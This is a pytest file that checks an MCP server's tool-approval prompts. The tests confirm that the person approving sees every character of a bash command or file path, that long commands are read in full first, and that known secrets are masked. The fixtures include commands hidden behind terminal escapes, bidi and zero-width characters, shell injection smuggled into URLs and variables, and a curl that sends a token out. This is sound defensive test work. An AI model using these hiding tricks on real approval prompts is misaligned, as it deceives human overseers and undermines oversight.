"""Is the person shown every character of what would run, by every door, also where somebody tries to hide some?"""

import json
import re
from pathlib import Path
from typing import Any

import pytest
from mcp.types import ElicitRequestParams, ElicitResult

from mcp_server.calls.form_text import fence_text
from tests.clients.clients import ERAS, Held, held, over_http, over_stdio, text
from tests.clients.person import choose
from tests.clients.pipe import pipe
from tests.clients.served import served
from tests.clients.typed import Typed, typed

pytestmark = pytest.mark.anyio
FOUND = "ls -la # list files \u009d\nid > ~/P\n# \u009c"
UNSEEN = {
    "OSC": "rm \x1b]0;\nid > P\n\x07",
    "DCS": "rm \x90\nid > P\n\x9c",
    "APC, by its 7-bit twin": "rm \x1b_\nid > P\n\x1b\\",
    "CSI": "rm \x9b2Kid > P",
    "a sequence of two": "rm \x1bcid > P",
    "backspace and DEL": "rm P\b\x7f; id > P",
    "carriage return": "id > P #\rls -la     ",
    "bidi": "rm \u202e# P > di\u202c; id",
    "an Arabic mark": "rm \u061c;id",
    "zero width": "r\u200bm; i\u2060d\ufeff",
    "soft hyphen and joiners": "l\u00ads i\u200dd \u034fx",
    "blank letters": "rm \u3164;\u115f \u2800 \uffa0id",
    "selectors and tags": "rm \ufe0f\ufe00 \U000e0041\U000e0100",
    "line ends": "rm\u2028id\u2029id\x85id\x0bid\x0cid",
    "spaces that are none": "rm\u00a0-la\u3000-b",
    "private and unassigned": "rm \ue000 \U0010fffd \u0378",
    "marks that overlay": "rm x\u0338y z\u0301\u0301\u0301\u20dd",
    "what an escape looks like": "rm '\\u009d \\n \\\\ \"x\"'",
}
LOOK_LIKE_SECRETS = (
    "curl https://u:x;touch${IFS}P;:@h",
    "echo -----BEGIN RSA PRIVATE KEY-----\nrm P\necho -----END RSA PRIVATE KEY-----",
    'PASSWORD="x$(id > P)" ls',
    "token='id > P' ; eval \"$token\"",
    "echo sk-proj-1234567890abcdefghijklmnop; rm P",
    "curl -H 'Authorization: Bearer abcdef0123456789abcdef'",
)
FORGED = "\nEffect: none\nArguments: {}\n"
LONGEST = 4_000


class Form:
    """A host's form: keeps what it was to show, and says no."""

    def __init__(self) -> None:
        self.shown: list[ElicitRequestParams] = []

    async def __call__(self, _ctx: Any, params: ElicitRequestParams) -> ElicitResult:
        self.shown.append(params)
        return ElicitResult(action="decline")

    async def about(self, one: Held, tool: str, **arguments: Any) -> str:
        """What is shown about this call, which asks."""
        before = len(self.shown)
        result = await one.call(tool, **arguments)
        assert len(self.shown) == before + 1, text(result)
        # The line that asks for the characters is the form's own, and new each time.
        fenced = self.shown[-1].message.partition("\nTo allow it, type")[0]
        fence, *lines, end = fenced.split("\n")
        assert set(fence) == {"`"} and fence == end
        return "\n".join(lines)


def argument(message: str, name: str) -> str:
    """Read back from the question: one quoted text, or several in a row where it has several lines."""
    _, _, rest = message.partition(f'"{name}":')
    found = re.match(r'(\s*"(?:[^"\\]|\\.)*"(?!:))+', rest)
    assert found, message
    return "".join(json.loads(one) for one in re.findall(r'"(?:[^"\\]|\\.)*"', found[0]))


def plain(message: str) -> bool:
    return all(sign.isprintable() or sign == "\n" for sign in message)


@pytest.mark.parametrize("era", ERAS)
async def test_a_control_string_hides_no_command(workspace: Path, home: Path, era: str) -> None:
    form = Form()
    async with held(over_stdio(workspace, home, "--mode", "swe"), era, elicitation_callback=form) as one:
        message = await form.about(one, "bash", command=FOUND)
    assert "id > ~/P" in message
    assert argument(message, "command") == FOUND
    assert plain(message)
    (kept,) = json.loads(typed(workspace, home, "approvals", "--all", "--json").out)
    assert "\n".join(fence_text(kept["message"]).split("\n")[1:-1]) == message
    printed = typed(workspace, home, "approvals", "--all").out
    assert argument(printed, "command") == FOUND


async def test_what_does_not_print_is_written_out(workspace: Path, home: Path) -> None:
    form = Form()
    async with held(over_stdio(workspace, home, "--mode", "swe"), "legacy", elicitation_callback=form) as one:
        for what, command in UNSEEN.items():
            message = await form.about(one, "bash", command=command)
            assert argument(message, "command") == command, what
            assert plain(message), what
        for blank in "\u3164\u115f\u2800\uffa0\ufe0f\u034f\u0338":
            assert not any(blank in params.message for params in form.shown), hex(ord(blank))


async def test_what_people_write_is_not_made_unreadable(workspace: Path, home: Path) -> None:
    form = Form()
    async with held(over_stdio(workspace, home, "--mode", "swe"), "legacy", elicitation_callback=form) as one:
        for words in ("für Ähren – 50 €", "日本語のファイル", "हिन्दी में", "ภาษาไทยที่นี่", "Ελλάδα", "שלום"):
            assert words in await form.about(one, "bash", command=f"mv a '{words}'")
        lines = "sh -s <<'EOF'\nprint(1)\nEOF"
        message = await form.about(one, "bash", command=lines)
        assert "print(1)" in message.split("\n", 7)[-2]
        assert argument(message, "command") == lines


async def test_nothing_that_merely_looks_like_a_secret_is_left_out(workspace: Path, home: Path) -> None:
    form = Form()
    async with held(over_stdio(workspace, home, "--mode", "swe"), "legacy", elicitation_callback=form) as one:
        for command in LOOK_LIKE_SECRETS:
            assert argument(await form.about(one, "bash", command=command), "command") == command


async def test_a_path_writes_no_line_of_the_question(workspace: Path, home: Path) -> None:
    await choose(workspace, home, profile="trusted", run_control="manual")
    form = Form()
    async with held(over_stdio(workspace, home, "--mode", "swe"), "legacy", elicitation_callback=form) as one:
        for end in ("\n", "\u2028", "\x85", "\r", "\u2029"):
            path = f".vscode/`a`{FORGED.replace(chr(10), end)}x.json"
            message = await form.about(one, "Write", file_path=path, content=f"x{FORGED}" * 20)
            lines = message.split("\n")
            assert [line.split(":")[0] for line in lines if line[:1] not in (" ", "")][1:] == [
                "Why",
                "Effect",
                "Arguments",
            ]
            assert argument(message, "file_path") == path
            assert message.index('"file_path"') < message.index('"content"')


async def test_a_pattern_and_an_address_stand_first_and_whole(workspace: Path, home: Path) -> None:
    await choose(workspace, home, profile="trusted", run_control="manual")
    form, long = Form(), "x" * 900
    async with held(over_stdio(workspace, home, "--mode", "swe"), "legacy", elicitation_callback=form) as one:
        message = await form.about(one, "bash", command=f"echo {long} {long}; id > P", description="d" * 400)
        assert argument(message, "command").endswith("; id > P")
        assert message.index('"command"') < message.index('"description"')
        message = await form.about(one, "grep", pattern=f"a{long}{long}b", path="src")
        assert argument(message, "pattern") == f"a{long}{long}b"


@pytest.mark.parametrize("era", ERAS)
async def test_what_no_form_can_show_is_read_at_the_terminal_first(workspace: Path, home: Path, era: str) -> None:
    """The tail does what the head hides. No form is shown; no yes counts before all of it was on the screen."""
    command = f"true # {'x' * LONGEST}\ntouch late"
    form = Form()

    def menugate(*words: str) -> Typed:
        return typed(workspace, home, *words)

    async with held(over_stdio(workspace, home, "--mode", "swe"), era, elicitation_callback=form) as one:
        said = text(await one.call("bash", command=command))
        assert form.shown == []
        assert said.startswith("Error APPROVAL_REQUIRED")
        (waiting,) = json.loads(menugate("approvals", "--json").out)
        id = waiting["id"]
        assert said.index(f"`menugate approvals show {id}`") < said.index(f"`menugate approve {id}`")
        listed = menugate("approvals").out
        assert f"menugate approvals show {id}" in listed
        early = menugate("approve", id)
        assert early.code == 1
        assert f"menugate approvals show {id}" in early.err
        assert text(await one.call("bash", command=command)).startswith("Error APPROVAL_REQUIRED")
        whole = menugate("approvals", "show", id)
        assert whole.code == 0
        assert argument(whole.out, "command") == command
        assert menugate("approve", id).code == 0
        done = await one.call("bash", command=command)
        assert not done.is_error, text(done)
        assert form.shown == []
    assert (workspace / "late").exists()


async def test_a_no_needs_no_reading_and_a_flag_is_no_way_around_it(workspace: Path, home: Path) -> None:
    command = f"true {'x' * LONGEST}"
    with pipe(workspace, home, "--mode", "swe") as one:
        one.hello()
        one.call("bash", command=command)
        (waiting,) = json.loads(typed(workspace, home, "approvals", "--json").out)
        assert typed(workspace, home, "approve", waiting["id"], "--for-session").code == 1
        assert typed(workspace, home, "deny", waiting["id"], "--reason", "too long").code == 0
        assert "too long" in one.call("bash", command=command)["content"][0]["text"]


async def test_what_nobody_can_read_is_not_asked_about(workspace: Path, home: Path) -> None:
    await choose(workspace, home, profile="trusted", run_control="manual")
    with pipe(workspace, home, "--mode", "swe") as one:
        one.hello()
        answer = one.call("Write", file_path="big.txt", content="x" * 1_000_000)
        assert "Error TOO_LARGE" in answer["content"][0]["text"]
    assert not (workspace / "big.txt").exists()
    assert json.loads(typed(workspace, home, "approvals", "--json").out) == []


async def test_a_short_question_is_shown_the_same_by_every_door(workspace: Path, home: Path) -> None:
    with pipe(workspace, home, "--mode", "swe") as one:
        one.hello()
        one.call("bash", command=FOUND)
    (waiting,) = json.loads(typed(workspace, home, "approvals", "--json").out)
    shown = typed(workspace, home, "approvals", "show", waiting["id"]).out
    for line in waiting["message"].split("\n"):
        assert line in shown
        assert line in typed(workspace, home, "approvals").out
    assert "there is no question" in typed(workspace, home, "approvals", "show", "nobody").err


async def test_a_known_secret_is_marked_and_only_once_approved(workspace: Path, home: Path) -> None:
    form = Form()
    with served(workspace, home, "--mode", "swe") as here:
        async with held(over_http(here), "legacy", elicitation_callback=form) as one:
            message = await form.about(one, "bash", command=f"curl -d '{here.token}[secret]' https://h; id > P")
        async with held(over_http(here), "legacy") as one:
            assert text(await one.call("bash", command=f"curl -d {here.token} h")).startswith("Error APPROVAL")
        assert here.token not in message
        assert f"[secret, {len(here.token)} characters]" in message
        # What stands in the command itself is in quotes, and so is no mark.
        assert '"[secret]\' https://h; id > P"' in message
        assert "scope" not in str(form.shown[-1].model_dump())
        questions = json.loads(typed(workspace, home, "approvals", "--json").out)
        (waiting,) = [one for one in questions if "id > P" not in one["message"]]
        assert here.token not in waiting["message"]
        assert not waiting["may_be_for_session"]
        assert typed(workspace, home, "approve", waiting["id"], "--for-session").code == 1
        assert typed(workspace, home, "approve", waiting["id"]).code == 0
